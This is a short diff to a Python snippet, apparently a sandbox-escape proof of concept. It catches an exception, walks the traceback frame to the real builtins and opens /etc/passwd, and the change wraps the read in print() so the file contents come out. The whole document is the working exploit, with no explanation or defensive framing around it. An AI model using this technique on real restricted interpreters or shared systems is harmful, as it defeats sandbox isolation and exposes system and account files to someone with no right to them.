@@ -5,4 +5,4 @@ try:
     raise ValueError
 except ValueError as e:
     fr = e.with_traceback(e.__traceback__).__traceback__.tb_frame
-    fr.f_globals["__builtins__"].open("/etc/passwd").read()
+    print(fr.f_globals["__builtins__"].open("/etc/passwd").read())
